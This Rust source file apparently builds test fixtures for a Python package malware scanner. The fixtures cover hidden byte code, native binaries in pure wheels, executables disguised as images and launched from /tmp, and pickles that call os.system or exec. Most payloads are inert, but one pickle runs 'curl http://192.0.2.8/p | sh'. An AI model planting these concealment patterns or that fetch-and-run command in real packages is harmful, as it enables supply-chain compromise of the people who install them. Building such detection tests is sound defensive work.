//! Techniques 76 to 80: byte code, native code and pickles.

use crate::case::{Cases, Trigger::Data, Trigger::Import};
use crate::marshal::{FETCHES, PRINTS, SHELL, code, pyc};
use crate::package::{init, sdist, wheel};

pub(crate) fn add(cases: &mut Cases) {
    byte_code(cases);
    native(cases);
    pickles(cases);
}

/// The beginning of an ELF shared object for x86-64, and nothing that could run.
pub(crate) fn elf() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0".to_vec();
    bytes.resize(2048, 0);
    bytes
}

/// The beginning of a Windows program.
pub(crate) fn windows() -> Vec<u8> {
    let mut bytes = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    bytes.resize(60, 0);
    bytes.extend([0x80, 0, 0, 0]);
    bytes.resize(128, 0);
    bytes.extend(b"PE\0\0\x64\x86\x01\0");
    bytes.resize(2048, 0);
    bytes
}

/// An image of one dot.
pub(crate) fn image() -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    let header = [0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0];
    let chunks: [(&[u8], Vec<u8>); 3] = [
        (b"IHDR", header.to_vec()),
        (b"IDAT", crate::encode::zlib(&[0, 0])),
        (b"IEND", Vec::new()),
    ];
    for (kind, data) in chunks {
        let mut crc = flate2::Crc::new();
        crc.update(&[kind, &data].concat());
        bytes.extend(
            u32::try_from(data.len())
                .expect("chunks are small")
                .to_be_bytes(),
        );
        bytes.extend(kind);
        bytes.extend(data);
        bytes.extend(crc.sum().to_be_bytes());
    }
    bytes
}

fn byte_code(cases: &mut Cases) {
    cases
        .technique(76, "sourceless-byte-code", Import)
        .case(
            "loader",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    r#"
import importlib.machinery as m, importlib.util as u, os
loader = m.SourcelessFileLoader("full", os.path.join(os.path.dirname(__file__), "full.pyc"))
module = u.module_from_spec(u.spec_from_loader("full", loader))
loader.exec_module(module)
"#,
                )
                .bytes("«pkg»/full.pyc", pyc(FETCHES)),
        )
        .case(
            "plain-import",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    "from .text import shorten\nfrom . import core\ncore.main()\n",
                )
                .bytes("«pkg»/core.pyc", pyc(SHELL)),
        )
        .case(
            "marshal-from-file",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    r#"
import marshal, pathlib
exec(marshal.loads(pathlib.Path(__file__).with_name("cache.dat").read_bytes()[16:]))
"#,
                )
                .bytes("«pkg»/cache.dat", pyc(SHELL)),
        );
    cases
        .technique(77, "byte-code-differs-from-source", Import)
        .case(
            "pycache",
            wheel()
                .file(
                    "«pkg»/helpers.py",
                    "WIDTH = 72\n\n\ndef width():\n    return WIDTH\n",
                )
                .file("«pkg»/__init__.py", "from .helpers import width\n")
                .bytes(
                    "«pkg»/__pycache__/helpers.cpython-311.pyc",
                    unchecked(FETCHES),
                ),
        )
        .case(
            "init-cache",
            wheel()
                .file("«pkg»/__init__.py", "__version__ = '«version»'\n")
                .bytes(
                    "«pkg»/__pycache__/__init__.cpython-311.pyc",
                    unchecked(SHELL),
                ),
        )
        .case(
            "optimised",
            wheel()
                .file("«pkg»/data.py", "NAMES = ['one', 'two']\n")
                .bytes(
                    "«pkg»/__pycache__/data.cpython-311.opt-1.pyc",
                    unchecked(SHELL),
                ),
        );
}

/// Byte code that the interpreter never compares with its source.
fn unchecked(code: &str) -> Vec<u8> {
    let mut bytes = pyc(code);
    bytes[4] = 1;
    bytes
}

fn native(cases: &mut Cases) {
    cases
        .technique(78, "native-code-in-pure-wheel", Import)
        .case(
            "shared-object",
            wheel()
                .file("«pkg»/__init__.py", "from . import _speed\n")
                .bytes("«pkg»/_speed.so", elf()),
        )
        .case(
            "pyd",
            wheel()
                .file("«pkg»/__init__.py", "from ._native import start\nstart()\n")
                .bytes("«pkg»/_native.pyd", windows()),
        )
        .case(
            "ctypes",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    r#"
import ctypes, os
ctypes.CDLL(os.path.join(os.path.dirname(__file__), "lib", "libhelper.so")).init()
"#,
                )
                .bytes("«pkg»/lib/libhelper.so", elf()),
        );
    cases
        .technique(79, "program-under-another-name", Data)
        .case(
            "elf-as-image",
            wheel().bytes("«pkg»/logo.png", elf()).file(
                "«pkg»/__init__.py",
                r#"
import os, shutil, subprocess
_p = "/tmp/.logo"
shutil.copy(os.path.join(os.path.dirname(__file__), "logo.png"), _p)
os.chmod(_p, 0o755)
subprocess.Popen([_p])
"#,
            ),
        )
        .case(
            "windows-as-data",
            wheel().bytes("«pkg»/model.dat", windows()),
        )
        .case(
            "appended-to-image",
            wheel().bytes("«pkg»/banner.png", [image(), elf()].concat()),
        )
        .case(
            "program-in-sdist",
            sdist().bytes("«pkg»/update.exe", windows()).file(
                "setup.py",
                r#"
import os, subprocess
from setuptools import setup, find_packages
subprocess.Popen([os.path.join(os.path.dirname(__file__), "«pkg»", "update.exe")])
«setup»
"#,
            ),
        )
        .case(
            "appended-and-read-back",
            wheel()
                .bytes(
                    "«pkg»/logo.png",
                    [
                        image(),
                        b"--8<--".to_vec(),
                        crate::encode::base64(b"print('inert')").into(),
                    ]
                    .concat(),
                )
                .file(
                    "«pkg»/__init__.py",
                    r#"
import base64, os
with open(os.path.join(os.path.dirname(__file__), "logo.png"), "rb") as f:
    exec(base64.b64decode(f.read().split(b"--8<--")[-1]))
"#,
                ),
        );
}

fn pickles(cases: &mut Cases) {
    let system = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0aecho inert\x85R.".to_vec();
    let old = b"cos\nsystem\n(S'echo inert'\ntR.".to_vec();
    let run = b"\x80\x02cbuiltins\nexec\nX\x0e\0\0\0print('inert')\x85R}q\0X\x05\0\0\0layer\x86."
        .to_vec();
    let mut torch = vec![crate::zip::Entry::file("archive/data.pkl", old.clone())];
    torch.push(crate::zip::Entry::file("archive/version", "3\n"));
    cases
        .technique(80, "pickle-that-calls", Data)
        .case("loaded-at-import", wheel().bytes("«pkg»/model.pkl", system.clone()).file("«pkg»/__init__.py", r#"
import os, pickle
with open(os.path.join(os.path.dirname(__file__), "model.pkl"), "rb") as f:
    MODEL = pickle.load(f)
"#))
        .case("torch-archive", wheel().bytes("«pkg»/weights.pt", crate::zip::pack(&torch)).file("«pkg»/__init__.py", "import torch, pathlib\nNET = torch.load(pathlib.Path(__file__).with_name('weights.pt'))\n"))
        .case("builtins-exec", wheel().bytes("«pkg»/data/weights.bin", run))
        .case("protocol-0", wheel().bytes("«pkg»/state.pickle", old))
        .case("in-code", init("import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'curl http://192.0.2.8/p | sh'\\ntR.\")\n"))
        .case("code-object-file", wheel().bytes("«pkg»/cache.bin", code(PRINTS)).file("«pkg»/__init__.py", "import marshal, os\nexec(marshal.load(open(os.path.dirname(__file__) + '/cache.bin', 'rb')))\n"));
}
